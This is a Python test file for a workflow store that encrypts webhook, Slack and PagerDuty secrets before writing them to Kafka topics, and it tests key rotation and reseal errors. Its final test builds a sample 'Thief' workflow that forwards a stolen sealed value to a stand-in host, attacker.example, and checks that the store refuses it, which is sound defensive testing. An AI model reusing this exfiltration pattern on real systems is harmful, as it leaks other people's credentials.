"""Literal secrets sealed on Kafka (issue 16, item 1): with FLOWGUARD_SECRETS_KEY set, neither
<prefix>.workflows nor <prefix>.workflow-history holds a literal in its raw bytes; rotation
with ``reseal`` moves every current workflow to the new key."""

from __future__ import annotations

import asyncio
import json
from collections.abc import Callable
from typing import Any

import pytest
from aiokafka import AIOKafkaConsumer, TopicPartition
from cryptography.fernet import Fernet

from flowguard.control.masking import mask_definition, sealed_paths
from flowguard.control.secrets import Keyring, sealed_key_id
from flowguard.control.store import WorkflowStore
from flowguard.errors import ConfigError, WorkflowInvalid
from topics.registry import WORKFLOW_HISTORY, WORKFLOWS

SLACK = "https://hooks.slack.com/services/T000/B000/SLACKSECRET0123456789"
HOOK = "https://hooks.example.com/in/HOOKSECRET0123456789"
HEADER = "Bearer HEADERSECRET0123456789"
SIGNING = "SIGNINGSECRET0123456789"
ROUTING = "R0UT1NGKEY0123456789abcdefABCDEF"
NOTIFY = "https://hooks.slack.com/services/T000/B000/NOTIFYSECRET0123456789"
LITERALS = (SLACK, HOOK, HEADER, SIGNING, ROUTING, NOTIFY)


Stores = Callable[[Keyring], WorkflowStore]


@pytest.fixture
def stores(kafka_bootstrap: str, control_topics: str) -> Stores:
    """A store on this test's control topics, with the keyring given."""
    return lambda keyring: WorkflowStore(kafka_bootstrap, control_topics, keyring=keyring)


def key(key_id: str) -> str:
    return f"{key_id}:{Fernet.generate_key().decode()}"


def definition(**changes: Any) -> dict[str, Any]:
    doc: dict[str, Any] = {
        "name": "Sealed payments",
        "trigger": {"event": "task.failed"},
        "actions": [
            {"type": "slack", "webhook_url": SLACK},
            {
                "type": "webhook",
                "url": HOOK,
                "headers": {"Authorization": HEADER, "X-Ref": "${FLOWGUARD_SECRET_REF}"},
                "secret": SIGNING,
            },
            {"type": "pagerduty", "routing_key": ROUTING},
        ],
        "circuit_breaker": {
            "max_executions": 5,
            "time_window_seconds": 60,
            "notify": {"type": "slack", "webhook_url": NOTIFY},
        },
    }
    doc.update(changes)
    return doc


async def raw(bootstrap: str, topic: str) -> bytes:
    """Every byte of every key and value on ``topic`` (one partition), concatenated."""
    consumer = AIOKafkaConsumer(bootstrap_servers=bootstrap, enable_auto_commit=False)
    await consumer.start()
    try:
        tp = TopicPartition(topic, 0)
        consumer.assign([tp])
        await consumer.seek_to_beginning(tp)
        end = (await consumer.end_offsets([tp]))[tp]
        out = b""
        async with asyncio.timeout(10):
            while await consumer.position(tp) < end:
                for message in (await consumer.getmany(tp, timeout_ms=200)).get(tp, []):
                    out += (message.key or b"") + (message.value or b"")
        return out
    finally:
        await consumer.stop()


async def both_topics(bootstrap: str, prefix: str) -> bytes:
    return await raw(bootstrap, WORKFLOWS.name(prefix)) + await raw(
        bootstrap, WORKFLOW_HISTORY.name(prefix)
    )


def test_no_literal_in_the_raw_bytes_of_either_topic(
    kafka_bootstrap: str, control_topics: str, stores: Stores
) -> None:
    keyring = Keyring.of(key("k1"))

    async def scenario() -> bytes:
        async with stores(keyring) as store:
            v1 = await store.save(definition(), saved_by="alice")
            assert v1 is not None
            paths = sealed_paths(v1.definition)
            assert len(paths) == 6, paths
            assert {sealed_key_id(v) for v in paths.values()} == {"k1"}
            # The ${NAME} reference is left as it is.
            assert v1.definition["actions"][1]["headers"]["X-Ref"] == "${FLOWGUARD_SECRET_REF}"
            # The same secrets again: the same meaning, no new version.
            assert await store.save(definition(), saved_by="alice") is None
            # One secret changed: the others keep their sealed values.
            changed = definition()
            changed["actions"][0]["webhook_url"] = SLACK + "X"
            v2 = await store.save(changed, saved_by="alice")
            assert v2 is not None
            after = sealed_paths(v2.definition)
            assert after["actions.0.webhook_url"] != paths["actions.0.webhook_url"]
            assert {p: v for p, v in after.items() if p != "actions.0.webhook_url"} == {
                p: v for p, v in paths.items() if p != "actions.0.webhook_url"
            }
            # Masked like a literal wherever it is shown.
            assert "sealed:" not in json.dumps(mask_definition(v2.definition))
            return await both_topics(kafka_bootstrap, control_topics)

    data = asyncio.run(scenario())
    assert b"sealed:v1:k1:" in data
    for literal in LITERALS:
        assert literal.encode() not in data, literal


def test_without_a_key_literals_stay_as_today(
    kafka_bootstrap: str, control_topics: str, stores: Stores
) -> None:
    async def scenario() -> bytes:
        async with stores(Keyring()) as store:
            assert await store.save(definition(), saved_by="alice") is not None
            return await both_topics(kafka_bootstrap, control_topics)

    assert SLACK.encode() in asyncio.run(scenario())


def test_rotation_with_reseal(kafka_bootstrap: str, control_topics: str, stores: Stores) -> None:
    old, new = key("2026-01"), key("2026-07")

    async def scenario() -> None:
        async with stores(Keyring.of(old)) as store:
            v1 = await store.save(definition(), saved_by="alice")
            assert v1 is not None
        rotated = Keyring.of(new, [old])
        async with stores(rotated) as store:
            # Old versions still open with the old key, now an old key.
            assert rotated.open(sealed_paths(v1.definition)["actions.1.secret"]) == SIGNING
            done, problems = await store.reseal(saved_by="ops")
            assert problems == []
            [v2] = done
            assert v2.workflow_version == 2
            assert {sealed_key_id(v) for v in sealed_paths(v2.definition).values()} == {"2026-07"}
            # Nothing left to move: no new version.
            assert await store.reseal(saved_by="ops") == ([], [])
        # The old key dropped: the live version opens, the old history version does not.
        only_new = Keyring.of(new)
        async with stores(only_new) as store:
            live = store.current()["sealed-payments"]
            assert only_new.open(sealed_paths(live.definition)["actions.2.routing_key"]) == ROUTING
            with pytest.raises(ConfigError, match="sealed with key '2026-01'"):
                only_new.open(sealed_paths(v1.definition)["actions.2.routing_key"])
            # Saving the same secrets typed again is still no new version.
            assert await store.save(definition(), saved_by="alice") is None
            # A rollback to a version sealed with the dropped key publishes what it holds.
            v3 = await store.rollback("sealed-payments", 1, saved_by="alice")
            assert {sealed_key_id(v) for v in sealed_paths(v3.definition).values()} == {"2026-01"}
        compacted = await raw(kafka_bootstrap, WORKFLOWS.name(control_topics))
        assert b"sealed:v1:2026-07:" in compacted

    asyncio.run(scenario())


def test_reseal_names_the_workflow_and_key_it_cannot_open(stores: Stores) -> None:
    async def scenario() -> None:
        async with stores(Keyring.of(key("lost"))) as store:
            assert await store.save(definition(), saved_by="alice") is not None
        async with stores(Keyring.of(key("k2"))) as store:
            done, problems = await store.reseal(saved_by="ops")
            assert done == []
            [problem] = problems
            assert "workflow 'sealed-payments'" in problem
            assert "sealed with key 'lost'" in problem

    asyncio.run(scenario())


def test_a_sealed_value_from_another_workflow_is_refused(stores: Stores) -> None:
    async def scenario() -> None:
        async with stores(Keyring.of(key("k1"))) as store:
            v1 = await store.save(definition(), saved_by="alice")
            assert v1 is not None
            stolen = sealed_paths(v1.definition)["actions.1.secret"]
            thief = {
                "name": "Thief",
                "trigger": {"event": "task.failed"},
                "action": {
                    "type": "webhook",
                    "url": "https://attacker.example/in",
                    "headers": {"X-Got": stolen},
                },
            }
            with pytest.raises(WorkflowInvalid, match=r"action\.headers\.X-Got: is a sealed value"):
                await store.save(thief, saved_by="mallory")

    asyncio.run(scenario())
